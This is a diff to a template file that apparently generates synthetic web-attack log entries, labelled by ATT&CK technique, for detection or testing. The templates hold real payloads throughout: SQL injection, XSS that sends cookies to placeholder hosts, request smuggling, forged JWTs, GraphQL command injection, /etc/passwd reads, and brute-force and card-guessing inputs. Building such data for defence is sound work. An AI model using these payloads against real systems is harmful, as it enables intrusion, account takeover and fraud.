@@ -21,7 +21,7 @@ GET /«api/v1|rest|v2»/«orders|users|items»/‹«num:1:99»«'|%27| or 1=1|-i
 GET /«|index.php|home|shop» ++ Cookie: «TrackingId=«mixed:16»'«¦¦(SELECT '')¦¦'|%20AND%20SLEEP(5)--|%3BSELECT+pg_sleep(10)--| AND (SELECT SUBSTRING(password,«num:1:20»,1) FROM users WHERE username='administrator')='«letters:1»»|lang=de' UNION SELECT 1,2-- -; theme=dark|user_id=«num:1:99»%20or%201%3D1; sid=«token:26»|cart=«num:1:99») OR (SELECT 1 FROM dual; sid=«hex:16»|session=x' OR '1'='1; lang=en» ## «200|500|302»
 GET /«|login|article/«num:1:999»» ++ Referer: https://«sitedomain»/«'+(select*from(select(sleep(«num:3:20»)))a)+'|?q=1' or extractvalue(1,concat(0x7e,version()))-- |%27%20OR%201=1--» ## «200|500»
 GET /«|counter|stats» ++ X-Forwarded-For: «127.0.0.1'«,(select 1 from (select sleep(«num:3:9»))x))-- | or '1'='1| and updatexml(1,concat(0x7e,user()),1) and '1'='1»|«pub»' union select null,null#|'%2b(select load_file('/etc/passwd'))%2b'» ## «200|500»
-GET /«|index.php|search?q=«word»» @@ «Mozilla/5.0'«XOR(if(now()=sysdate(),sleep(«num:5:15»),0))XOR'Z| AND 1=1-- |, (select version()))-- |"XOR(if(now()=sysdate(),sleep(15),0))XOR"Z»|1 waitfor delay '0:0:15' --|-1 OR 2+«num:100:999»-«num:100:999»-1=0+0+0+1 --|'¦¦DBMS_PIPE.RECEIVE_MESSAGE(CHR(98),15)¦¦'|if(now()=sysdate(),sleep(15),0)» ## «200|500|302»
+GET /«|index.php|search?q=«word»» @! «Mozilla/5.0'«XOR(if(now()=sysdate(),sleep(«num:5:15»),0))XOR'Z| AND 1=1-- |, (select version()))-- |"XOR(if(now()=sysdate(),sleep(15),0))XOR"Z»|1 waitfor delay '0:0:15' --|-1 OR 2+«num:100:999»-«num:100:999»-1=0+0+0+1 --|'¦¦DBMS_PIPE.RECEIVE_MESSAGE(CHR(98),15)¦¦'|if(now()=sysdate(),sleep(15),0)» ## «200|500|302»
 POST /api/«track|visit» <<< {"page":"/«word»"} ++ X-Client-Id: «guid»'«; DROP TABLE visits--| OR 1=1--|)) AND (SELECT 1 FROM PG_SLEEP(5))--» ## «200|500»
 # T1190 webwork sql in json and xml
 POST /api/v«num:1:3»/«search|login|orders|users/query» <<< {"«email|name|user|filter»":"«first»«' OR 1=1--|'/**/OR/**/'x'='x|' UNION SELECT password FROM users-- |'; WAITFOR DELAY '0:0:5'--|' AND (SELECT COUNT(*) FROM «word»)>0--|\" OR \"\"=\"|') OR ('a'='a»","«password|page|limit»":"«x|1|10»"} ## «200|401|500»
@@ -49,7 +49,7 @@ GET /«search|preview»?q=%3C%73%63%72%69%70%74%3E%65%76%61%6C(String.fromCharCo
 POST /«contact|support/tickets» <<< subject=‹«Word»›&message=‹«<script>document.location='http://«pub»/?'+document.cookie</script>|<x onclick=alert(1)>click|"><script src=https://«domain»/b></script>|<img/src/onerror=alert(1)>»›
 # T1189 webwork scripts in headers and files
 GET /«|search|contact» ++ Referer: https://«sitedomain»/"><script>alert(«num:1:99»)</script> ## «200|404»
-GET /«|login|404page» @@ «<script>alert(1)</script>|Mozilla/5.0 "><img src=x onerror=fetch('//«domain»')>|<svg onload=alert(1)>|Mozilla/5.0 (X11; Linux x86_64)</title><script src=//«domain»/u.js></script>» ## «200|404»
+GET /«|login|404page» @! «<script>alert(1)</script>|Mozilla/5.0 "><img src=x onerror=fetch('//«domain»')>|<svg onload=alert(1)>|Mozilla/5.0 (X11; Linux x86_64)</title><script src=//«domain»/u.js></script>» ## «200|404»
 GET / ++ X-Forwarded-Host: «domain»"><script src=//«domain»/a.js></script> ## «200|301»
 POST /«upload|avatar|attachments» <<< --«hex:24»\nContent-Disposition: form-data; name="file"; filename="«word».svg"\nContent-Type: image/svg+xml\n\n<svg xmlns="http://www.w3.org/2000/svg" onload="«alert(document.domain)|fetch('//«domain»/'+document.cookie)»"/>\n--«hex:24»-- ## «200|201»
 POST /«gallery|files» <<< --«hex:24»\nContent-Disposition: form-data; name="file"; filename="«"><img src=x onerror=alert(1)>|<script>alert(1)<!--|'onload='alert(1)».«png|jpg»"\nContent-Type: image/png\n\n«mixed:30»\n--«hex:24»-- ## «200|500»
@@ -111,14 +111,14 @@ POST /«|api|login» <<< 0\n\nGET /«admin|404» HTTP/1.1\nHost: «sitedomain»\
 POST / <<< GPOST / HTTP/1.1\nHost: «sitedomain»\n\nx= ++ Transfer-Encoding: chunked ++ Transfer-encoding: «identity|cow» ## «200|400|405»
 GET /«|index.html» ++ Upgrade: h2c ++ HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA ++ Connection: Upgrade, HTTP2-Settings, «X-Forwarded-For|Authorization» ## «101|200|400»
 # T1190 webwork hosts and origins that lie
-GET /«|login|password/reset|admin» ++ Host: «domain» ## «200|301|400|421»
 POST /«password/reset|forgot|api/auth/reset» <<< email=‹«first».«last»@«sitedomain»› ++ X-Forwarded-Host: «domain» ## «200|302»
 GET /«admin|server-status|internal|actuator» ++ X-Forwarded-For: «127.0.0.1|::1|10.0.0.1|localhost» ++ X-«Real-IP|Originating-IP|Client-IP|Remote-Addr»: 127.0.0.1 ## «200|403|404»
 GET /«|js/app.js|home»?«cb|x»=«token:6» ++ X-Forwarded-«Host|Scheme|Port|Prefix»: «domain|http|1|/..» ## «200|301|302»
 GET /api/«me|keys|account» ++ Origin: «https://«sitedomain».«domain»|https://«domain»|null|https://«letters:3»«sitedomain»» ++ Cookie: session=«mixed:32» ## «200|403»
 GET /«static/main.js|images/logo.png|robots.txt» ++ X-HTTP-Method-Override: «DELETE|PUT|TRACE» ## «200|405»
 GET /«account|profile|dashboard»/«letters:4».«css|js|jpg|ico» ++ Cookie: session=«mixed:32» ## «200|404»
-GET /«admin|login» ++ Host: localhost ## «200|302|403|404»
+GET http://«localhost|127.0.0.1|«domain»»/«admin|server-status|manager/html|api/internal» ## «200|302|403|404|421»
+GET /«login|admin|password/reset»?«host|domain|base_url»=‹«https://«domain»|localhost|127.0.0.1:«num:1000:9999»»› ## «200|302|400»
 """).replace("%TOOL", _TOOL)) + table(phrased(r"""
 # T1566.002 webwork redirects turned outward
 GET /«redirect|out|login|logout|sso|r»?«url|next|returnUrl|continue|dest|RelayState»=‹«//«domain»/«login|signin|verify»|https:«domain»|/\\«domain»|https://«sitedomain»@«domain»/|https://«sitedomain».«domain»/«login|owa»|%2f%2f«domain»|https:///«domain»/|javascript:alert(document.domain)|data:text/html,<script>location='//«domain»'</script>|http://«pub»/«word»|///«domain»/%2e%2e|/%09/«domain»|https://«domain»\@«sitedomain»»› ## «302|302|301|200|400»
@@ -135,15 +135,15 @@ POST /«register|signup|api/users» <<< {"email":"@outsider@","password":"«mixe
 POST /«register|account/edit|users» <<< user[login]=«first»&user[password]=«mixed:9»&user[«admin|role_id|is_superuser|group_ids][|confirmed_at|balance»]=«1|true|administrator|9999» ## «302|200|422»
 POST /graphql <<< {"query":"mutation { updateUser(input: {id: «num:1:999», «role: ADMIN|isAdmin: true|permissions: [ALL]|verified: true|balance: 99999»}) { user { id role } } }"} ## 200
 # T1657 webwork prices and amounts bent
-POST /«cart/add|checkout|api/orders|warenkorb|panier|carrito» <<< {"sku":"«WORD»-«num:1:999»","qty":«-«num:1:99»|0.001|-1|99999999|1e9|0»,"price":«num:1:2500»«|.99»,"currency":"EUR"} ## «200|200|201|400»
+POST /«cart/add|checkout|api/orders|warenkorb|panier|carrito» <<< {"sku":"«WORD»-«num:1:999»","qty":"«-1e9|NaN|1e99|0x1|-9999999999999|1;1|[]|{}|--1»","price":"«num:1:2500»«|.99»","currency":"EUR","price_override":«true|0»} ## «200|200|201|400»
 POST /«checkout|api/payment|pago|kasse» <<< {"order_id":«num:1000:99999»,"total":«0|0.01|0.1|-«num:1:900»|1»,"items":[{"sku":"«WORD»-«num:1:999»","price":«0.01|0|-«num:1:99»»,"qty":«num:1:9»}],"status":"«paid|approved|created»","discount":«100|99.9|101»} ## «200|201|400|422»
 POST /«wallet/transfer|api/transfers|points/transfer» <<< {"from":"«num:100000:999999»","to":"«num:100000:999999»","amount":«-«num:1:9999»|0.004|NaN|1e-9|999999999999|"1000000"|-0.01»,"fee":«0|-1»} ## «200|400|500»
 POST /«subscriptions|plans»/«upgrade|change» <<< {"plan":"enterprise","price":«0|0.01|1»,"trial_days":«num:999:99999»,"coupon":["«WORD»100","«WORD»100","«WORD»100"]} ## «200|400»
 GET /«pay|checkout/confirm|payment/return|ipn»?order=«num:1000:99999»&«amount|total|importe»=«0.01|0|-«num:1:99»|1»&status=«success|paid|OK|approved»&«sig|hash»=«|0|null|undefined|«hex:8»» ## «200|302|400»
-POST /«bookings|seats»/reserve <<< {"event":«num:1:999»,"seats":«-«num:1:9»|«num:5000:99999»|[]|{"$gt":0}»,"category":"«vip|free|staff»","unit_price":«0|0.01|-1»} ## «200|400|500»
+POST /«bookings|seats»/reserve <<< {"event":«num:1:999»,"seats":«[]|{"$gt":0}|1e99|null|"-Infinity"»,"category":"«vip|free|staff»","unit_price":«0|0.01|-1»} ## «200|400|500»
 # T1213 webwork records of others walked through
-GET /api/v«num:1:3»/«users|customers|patients|invoices|orders|employees»/«num:1:99999» @@ «python-requests/2.«num:25:32».0|curl/8.«num:1:9».0|Go-http-client/1.1|python-httpx/0.27.0|Wget/1.21.3|aiohttp/3.9.«num:1:5»» ## «200|200|403|404|401»
-GET /«account|invoice|order|rechnung|factura|ticket».php?«id|user|uid|num»=«num:1:99999»«&format=pdf|&download=1|&print=1|» @@ «python-requests/2.«num:25:32».0|curl/8.«num:1:9».0|Java/1.8.0_«num:100:400»|libwww-perl/6.«num:10:67»|Wget/1.21.3» ## «200|200|302|403|404»
+GET /api/v«num:1:3»/«users|customers|patients|invoices|orders|employees»/«num:1:99999» @! «python-requests/2.«num:25:32».0|curl/8.«num:1:9».0|Go-http-client/1.1|python-httpx/0.27.0|Wget/1.21.3|aiohttp/3.9.«num:1:5»» ## «200|200|403|404|401»
+GET /«account|invoice|order|rechnung|factura|ticket».php?«id|user|uid|num»=«num:1:99999»«&format=pdf|&download=1|&print=1|» @! «python-requests/2.«num:25:32».0|curl/8.«num:1:9».0|Java/1.8.0_«num:100:400»|libwww-perl/6.«num:10:67»|Wget/1.21.3» ## «200|200|302|403|404»
 GET /api/v«num:1:3»/«users|accounts|members|contacts»?«limit|per_page|page_size»=«num:10000:9999999»&«offset=0|fields=*|include=password,ssn,mfa_secret|with_deleted=true|expand=credentials,tokens» @@ %TOOL ## «200|200|400|403»
 GET /api/v«num:1:3»/users/«num:1:999»/«password|tokens|api-keys|mfa|sessions|impersonate|private-messages» @@ %TOOL ## «200|401|403|404»
 «GET|DELETE|PUT» /api/«internal|v1/admin|private|management»/«users|users/«num:1:99»/role|config|backup|feature-flags|tenants/«num:1:99»» ++ X-User-Id: 1 ++ X-Role: «admin|superuser|internal» ## «200|401|403»
@@ -151,16 +151,16 @@ POST /api/v«num:1:3»/«orders|documents|messages» <<< {"user_id":«num:1:20»
 GET /«uploads|private|backups|exports»/«users|customers|payroll|«year»-«num:10:12»|db»«-full|_export|»-«date:%Y%m%d».«csv|xlsx|zip|sql.gz|json» @@ %TOOL ## «200|403|404|404»
 # T1110 webwork passwords guessed at forms
 POST /«login|wp-login.php|admin/login|administrator/index.php|users/sign_in|signin» <<< «username|log|user|email»=«admin|root|test|administrator|«first»|info|webmaster|support|«site»»&«password|pwd|pass»=‹«admin«|123|@123|«year»»|123456«|78|789»|password«|1|!»|qwerty«|123»|Welcome1|«Word»«year»!|«site»«|1|123|«year»»|letmein|P@ssw0rd|Summer«year»!|changeme|iloveyou|toor|abc123»› @@ %TOOL ## «200|200|401|403|429|302»
-POST /api/«auth/login|v1/session|token|oauth/token» <<< {"«username|email»":"«admin|«first»@«sitedomain»|test@«sitedomain»|root»","password":"«123456|Password1|Winter«year»!|«Site»123|qwerty|admin|«Word»123!|P@ssw0rd|111111»"} @@ «python-requests/2.«num:25:32».0|Go-http-client/1.1|-|curl/7.68.0|python-httpx/0.27.0|Mozilla/5.0» ## «401|401|400|429|200»
+POST /api/«auth/login|v1/session|token|oauth/token» <<< {"«username|email»":"«admin|«first»@«sitedomain»|test@«sitedomain»|root»","password":"«123456|Password1|Winter«year»!|«site»123|qwerty|admin|«Word»123!|P@ssw0rd|111111»"} @@ «python-requests/2.«num:25:32».0|Go-http-client/1.1|-|curl/7.68.0|python-httpx/0.27.0|Mozilla/5.0» ## «401|401|400|429|200»
 POST /«xmlrpc.php|wp-json/jwt-auth/v1/token|owa/auth.owa|rdweb/pages/en-us/login.aspx|remote/logincheck|cgi-bin/luci|j_security_check|phpmyadmin/index.php|manager/html|+CSCOE+/logon.html» <<~ username=«admin|«first»»&password=«123456|«Word»«year»» @@ «python-requests/2.«num:25:32».0|Go-http-client/1.1|-|curl/7.68.0|Mozilla/5.0 (Windows NT 6.1; rv:«num:40:60».0) Gecko/20100101 Firefox/«num:40:60».0|Hydra» ## «401|401|403|429|503»
 GET /«manager/html|nagios/|webdav/|private/|rest/api/2/myself|api/v1/user» ++ Authorization: Basic «YWRtaW46YWRtaW4=|YWRtaW46MTIzNDU2|dG9tY2F0OnRvbWNhdA==|dG9tY2F0OnMzY3JldA==|cm9vdDpyb290|YWRtaW46cGFzc3dvcmQ=|dGVzdDp0ZXN0|bmFnaW9zYWRtaW46bmFnaW9z» ## «401|401|403|200»
 POST /«mfa/verify|2fa|otp|login/code|api/auth/otp» <<< {"code":"00«num:1000:9999»","user":"«person»","attempt":«num:20:9000»} @@ %TOOL ## «401|429|400|200»
 POST /«password/reset|reset-pin|api/otp/verify» <<< {"email":"«first».«last»@«sitedomain»","token":"«0000|1234|000000|123456|null|[]|true»","new_password":"«mixed:10»"} @@ %TOOL ## «400|401|200|429»
 # T1110.004 webwork bought passwords tried
 POST /«api/login|login|account/signin|auth/token|session» <<< {"email":"@outsider@","password":"«mixed:6:11»«|1|123|!»","remember":false} @@ «Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/«num:50:85».0.«num:2000:4000».0 Safari/537.36|okhttp/3.«num:8:12».0|python-requests/2.«num:25:32».0|Go-http-client/2.0|-|Mozilla/5.0 (iPhone; CPU iPhone OS 12_0 like Mac OS X)» ## «401|401|403|429|423|200»
-POST /«login|signin|wp-login.php» <<~ username=@outsider@&password=«mixed:9» @@ «python-requests/2.«num:25:32».0|OpenBullet|Go-http-client/1.1|-|okhttp/3.12.0|Mozilla/5.0|node-fetch/1.0|HeadlessChrome/«num:90:120»» ## «401|403|429|429»
+POST /«login|signin|wp-login.php» <<~ username=@outsider@&password=«mixed:9» @! «python-requests/2.«num:25:32».0|OpenBullet|Go-http-client/1.1|-|okhttp/3.12.0|Mozilla/5.0|node-fetch/1.0|HeadlessChrome/«num:90:120»» ## «401|403|429|429»
 POST /api/«auth|v2/login» <<< [{"email":"@outsider@","password":"«mixed:8»"},{"email":"@outsider@","password":"«mixed:8»"},{"email":"@outsider@","password":"«mixed:8»"}] @@ %TOOL ## «200|400|401»
-GET /api/«users/exists|auth/check-email|v1/accounts/lookup»?«email|login»=‹@outsider@› @@ «python-requests/2.«num:25:32».0|Go-http-client/1.1|aiohttp/3.8.«num:1:6»|-|python-httpx/0.27.0» ## «200|404|429»
+GET /api/«users/exists|auth/check-email|v1/accounts/lookup»?«email|login»=‹@outsider@› @! «python-requests/2.«num:25:32».0|Go-http-client/1.1|aiohttp/3.8.«num:1:6»|-|python-httpx/0.27.0» ## «200|404|429»
 POST /graphql <<< {"query":"mutation { a1: login(email: \"@outsider@\", password: \"«mixed:8»\") { token } a2: login(email: \"@outsider@\", password: \"«mixed:8»\") { token } a3: login(email: \"@outsider@\", password: \"«mixed:8»\") { token } }"} ## «200|400|429»
 # T1550.001 webwork tokens forged by hand
 GET /api/«me|admin/users|v1/orders|internal/config» ++ Authorization: Bearer «eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0|eyJ0eXAiOiJKV1QiLCJhbGciOiJOb25lIn0|eyJhbGciOiJuT05FIn0|eyJhbGciOiJIUzI1NiIsImtpZCI6Ii4uLy4uLy4uL2Rldi9udWxsIn0|eyJhbGciOiJIUzI1NiIsImprdSI6Imh0dHA6Ly8«mixed:20»In0».eyJ«mixed:20»InJvbGUiOiJhZG1pbiIs«mixed:20».«|AAAA|«mixed:3»» ## «200|401|403|500»
@@ -200,17 +200,17 @@ POST /graphql <<< [{"query":"mutation{redeem(code:\"AAAA-«num:1000:9999»\"){ok
 POST /graphql <<< {"query":"query { «systemDiagnostics(cmd: \"id; uname -a\")|importPaste(host: \"127.0.0.1\", port: «num:20:9999», path: \"/\", scheme: \"http\") { result }|file(path: \"../../../../etc/passwd\") { content }|search(filter: \"{\\\"$where\\\":\\\"sleep(2000)\\\"}\") { id }»}"} ## «200|500»
 # T1657 webwork coupons and cards guessed
 POST /«cart/coupon|checkout/discount|api/promo/apply|warenkorb/gutschein» <<< {"code":"«WORD»«100|99|FREE|TEST|ADMIN|«num:1:9999»»","cart_id":"1","attempt":«num:30:9000»} @@ «python-requests/2.«num:25:32».0|Go-http-client/1.1|curl/8.«num:1:9».0|-|python-httpx/0.27.0» ## «404|422|429|400|200»
-«GET|POST» /«giftcard|gutschein|api/giftcards»/«balance|check»?«number|card|code»=«num:6000:6999»00000000«num:1000:9999»&pin=«num:0:9»«num:100:999» @@ «python-requests/2.«num:25:32».0|Go-http-client/1.1|curl/8.«num:1:9».0|-|aiohttp/3.9.«num:1:5»» ## «404|404|429|403|200»
+«GET|POST» /«giftcard|gutschein|api/giftcards»/«balance|check»?«number|card|code»=«num:6000:6999»00000000«num:1000:9999»&pin=«num:0:9»«num:100:999» @! «python-requests/2.«num:25:32».0|Go-http-client/1.1|curl/8.«num:1:9».0|-|aiohttp/3.9.«num:1:5»» ## «404|404|429|403|200»
 POST /«checkout/payment|api/payment_methods|donate» <<< {"amount":«0.5|1|0.01|1.00»,"card":{"number":"«4|5»«num:100000000000000:999999999999999»","exp":"«num:1:12»/«num:25:31»","cvc":"«num:100:999»"},"email":"«letters:8»@«domain»"} @@ «python-requests/2.«num:25:32».0|Go-http-client/1.1|axios/1.6.0|-|HeadlessChrome/110.0» ## «402|402|403|429|200»
 POST /«referral/invite|loyalty/redeem|points/claim|bonus» <<< {"member":"«num:1:99»","points":«num:100000:99999999»,"ref":"«letters:8»","email":"«letters:6»+«num:100:9999»@«domain»"} @@ %TOOL ## «200|409|429»
 POST /«orders/«num:10000:99999»/refund|returns» <<< {"amount":«num:5000:99999»,"method":"«gift_card|other_card|bank»","iban":"«LT|EE|MT»«num:10:99»«num:1000000000000000:9999999999999999»","force":true,"reason":"x"} ## «200|201|403»
 POST /«sms|api/otp/send|verify/phone» <<< {"phone":"+«882|979|252|992|960»«num:10000000:99999999»","channel":"voice","n":«num:50:9000»} @@ %TOOL ## «200|429»
 # T1119 webwork pages copied wholesale
-GET /«product|listing|profile|job|hotel»s?page=«num:500:99999»&per_page=«num:100:1000» @@ «python-requests/2.«num:25:32».0|Scrapy/2.«num:5:11».0 (+https://scrapy.org)|Go-http-client/1.1|aiohttp/3.9.«num:1:5»|HeadlessChrome/«num:90:125».0.0.0|colly - https://github.com/gocolly/colly|node-fetch/1.0|Wget/1.21.3|HTTrack 3.0x» ## «200|200|429|403|503»
-GET /api/v«num:1:3»/«prices|flights|availability|profiles»?«from=«num:1:99999»&to=«num:100000:999999»|q=«letters:2»&limit=1000|all=true» @@ «python-requests/2.«num:25:32».0|Go-http-client/1.1|curl/8.«num:1:9».0|okhttp/3.12.0|HeadlessChrome/«num:90:125».0.0.0» ## «200|200|429|403»
-GET /«wp-json/wp/v2/users?per_page=100&page=«num:1:90»|feed/?paged=«num:100:999»|sitemap-users-«num:1:90».xml|members/«num:1:99999»|u/«num:1:99999».json» @@ «python-requests/2.«num:25:32».0|Scrapy/2.«num:5:11».0|Go-http-client/1.1|-» ## «200|403|429|404»
-GET /«staff|people|team|directory|alumni»?«letter=«letters:1»&page=«num:1:90»|q=«letters:2»%25|show=all&export=1» @@ «python-requests/2.«num:25:32».0|theHarvester|EmailCollector|Go-http-client/1.1|curl/8.«num:1:9».0» ## «200|200|403»
-GET /«downloads|docs|files»/«?C=M;O=D|«word».«pdf|xlsx|docx»|«year»/» @@ «Wget/1.«num:12:21».«num:1:4» (linux-gnu)|HTTrack 3.0x|python-requests/2.«num:25:32».0|metagoofil|aria2/1.3«num:4:7».0» ++ Referer: - ## «200|206|404»
+GET /«product|listing|profile|job|hotel»s?page=«num:500:99999»&per_page=«num:100:1000» @! «python-requests/2.«num:25:32».0|Scrapy/2.«num:5:11».0 (+https://scrapy.org)|Go-http-client/1.1|aiohttp/3.9.«num:1:5»|HeadlessChrome/«num:90:125».0.0.0|colly - https://github.com/gocolly/colly|node-fetch/1.0|Wget/1.21.3|HTTrack 3.0x» ## «200|200|429|403|503»
+GET /api/v«num:1:3»/«prices|flights|availability|profiles»?«from=«num:1:99999»&to=«num:100000:999999»|q=«letters:2»&limit=1000|all=true» @! «python-requests/2.«num:25:32».0|Go-http-client/1.1|curl/8.«num:1:9».0|okhttp/3.12.0|HeadlessChrome/«num:90:125».0.0.0» ## «200|200|429|403»
+GET /«wp-json/wp/v2/users?per_page=100&page=«num:1:90»|feed/?paged=«num:100:999»|sitemap-users-«num:1:90».xml|members/«num:1:99999»|u/«num:1:99999».json» @! «python-requests/2.«num:25:32».0|Scrapy/2.«num:5:11».0|Go-http-client/1.1|-» ## «200|403|429|404»
+GET /«staff|people|team|directory|alumni»?«letter=«letters:1»&page=«num:1:90»|q=«letters:2»%25|show=all&export=1» @! «python-requests/2.«num:25:32».0|theHarvester|EmailCollector|Go-http-client/1.1|curl/8.«num:1:9».0» ## «200|200|403»
+GET /«downloads|docs|files»/«?C=M;O=D|«word».«pdf|xlsx|docx»|«year»/» @! «Wget/1.«num:12:21».«num:1:4» (linux-gnu)|HTTrack 3.0x|python-requests/2.«num:25:32».0|metagoofil|aria2/1.3«num:4:7».0» ++ Referer: - ## «200|206|404»
 # T1190 webwork requests no browser makes
 «DEBUG|TRACK|TRACE|«letters:4»|PROPPATCH|SEARCH|CONNECT|BCOPY|get|OPTIONSS» /«|index.php|admin|webdav/» @@ %TOOL ## «405|501|400|200»
 GET /«word»?«q|x|data»=«mixed:900» @@ %TOOL ## «414|400|500|200»
